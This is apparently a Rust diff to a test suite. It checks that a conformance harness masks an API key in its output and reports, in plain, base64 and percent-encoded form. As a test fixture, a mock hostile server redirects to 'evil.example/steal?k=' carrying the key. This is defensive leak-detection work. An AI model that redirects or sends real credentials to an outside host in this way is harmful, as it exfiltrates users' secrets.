@@ -313,9 +313,50 @@ fn faults_lists_the_catalogue() {
     }
 }
 
+fn percent_encoded(text: &str) -> String {
+    text.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
+                (b as char).to_string()
+            }
+            other => format!("%{other:02X}"),
+        })
+        .collect()
+}
+
+fn base64(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    bytes
+        .chunks(3)
+        .flat_map(|chunk| {
+            let n = chunk
+                .iter()
+                .enumerate()
+                .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
+            (0..4).map(move |i| {
+                if i <= chunk.len() {
+                    ALPHABET[(n >> (18 - 6 * i)) as usize & 63] as char
+                } else {
+                    '='
+                }
+            })
+        })
+        .collect()
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_api_key_never_appears_in_output() {
-    let canary = format!("ak_canary{}", share_conformance::clock::random_hex(16));
+async fn the_api_key_never_appears_in_any_output() {
+    // `+` and `/` make the three forms differ.
+    let canary = format!(
+        "ak_Canary+{}/{}",
+        share_conformance::clock::random_hex(8),
+        share_conformance::clock::random_hex(8)
+    );
+    let forms = [
+        canary.clone(),
+        percent_encoded(&canary),
+        base64(canary.as_bytes()),
+    ];
     // A correct server that knows the canary key: a passing run.
     let server = ReferenceServer::start(ServerOptions {
         recipient_key: Some(ApiKey::new(canary.clone()).unwrap()),
@@ -323,26 +364,33 @@ async fn the_api_key_never_appears_in_output() {
     })
     .await
     .unwrap();
-    let dir = scratch_dir("canary");
     let mut fixtures = server.fixtures();
     fixtures.api_key = None;
-    let fixtures_path = write_fixtures(&dir, &fixtures);
-    // A broken server that echoes the key it receives in its body and headers: a failing run
-    // whose failure excerpts would show the key if nothing masked it.
+    let fixtures_path = write_fixtures(&scratch_dir("canary-fixtures"), &fixtures);
+    // A hostile server that echoes the key it receives in every form: in its body, in a header
+    // and in a redirect's Location.
     let echo = spawn(Router::new().fallback(|headers: HeaderMap| async move {
-        let key = headers
-            .get("x-api-key")
-            .and_then(|v| v.to_str().ok())
-            .unwrap_or("none")
-            .to_owned();
+        let key = headers.get("x-api-key").and_then(|v| v.to_str().ok()).unwrap_or("none").to_owned();
+        let body = serde_json::json!({ "you_sent": key, "as_base64": base64(key.as_bytes()), "in_a_url": percent_encoded(&key) });
         (
-            [("x-echo", key.clone())],
-            axum::Json(serde_json::json!({ "you_sent": key })),
+            axum::http::StatusCode::TEMPORARY_REDIRECT,
+            [
+                ("x-echo", key.clone()),
+                ("location", format!("https://evil.example/steal?k={}", percent_encoded(&key))),
+                ("content-type", "application/json".to_owned()),
+            ],
+            body.to_string(),
         )
     }))
     .await;
 
-    for (url, expected_code) in [(server.base_url(), 0), (echo, 1)] {
+    for (name, url, expected_code) in [
+        ("canary-pass", server.base_url(), 0),
+        ("canary-echo", echo, 1),
+    ] {
+        let dir = scratch_dir(name);
+        let files =
+            ["junit.xml", "cucumber.json", "report.md", "report.md.json"].map(|f| dir.join(f));
         let output = harness_async(vec![
             "run".into(),
             "--base-url".into(),
@@ -351,6 +399,13 @@ async fn the_api_key_never_appears_in_output() {
             fixtures_path.clone(),
             "--api-key".into(),
             canary.clone(),
+            "-vv".into(),
+            "--junit".into(),
+            files[0].display().to_string(),
+            "--cucumber-json".into(),
+            files[1].display().to_string(),
+            "--report".into(),
+            files[2].display().to_string(),
         ])
         .await;
         let (stdout, stderr) = text(&output);
@@ -359,19 +414,38 @@ async fn the_api_key_never_appears_in_output() {
             Some(expected_code),
             "{stdout}\n{stderr}"
         );
-        assert!(
-            !stdout.contains(&canary[3..]),
-            "the key leaked to stdout:\n{stdout}"
-        );
-        assert!(
-            !stderr.contains(&canary[3..]),
-            "the key leaked to stderr:\n{stderr}"
-        );
+        let mut outputs = vec![
+            ("stdout".to_owned(), stdout.clone()),
+            ("stderr".to_owned(), stderr),
+        ];
+        for file in &files {
+            let content = std::fs::read_to_string(file).unwrap_or_else(|_| {
+                panic!("{} is missing: the run's leak scan removes a report it finds a key in\n{stdout}", file.display())
+            });
+            outputs.push((file.display().to_string(), content));
+        }
+        for (place, content) in &outputs {
+            for form in &forms {
+                assert!(
+                    !content.contains(form.as_str()),
+                    "{name}: the key ({form}) is in {place}:\n{content}"
+                );
+            }
+        }
         if expected_code == 1 {
             assert!(
                 stdout.contains("\"you_sent\":\"***\""),
                 "the echoed key is masked:\n{stdout}"
             );
+            assert!(
+                stdout.contains("redirect to https://evil.example/steal?k=***"),
+                "{stdout}"
+            );
+            assert!(
+                stdout.contains("state at the failure:"),
+                "-vv shows the World: {stdout}"
+            );
+            assert!(stdout.contains("the target echoed a key back"), "{stdout}");
         }
     }
 }
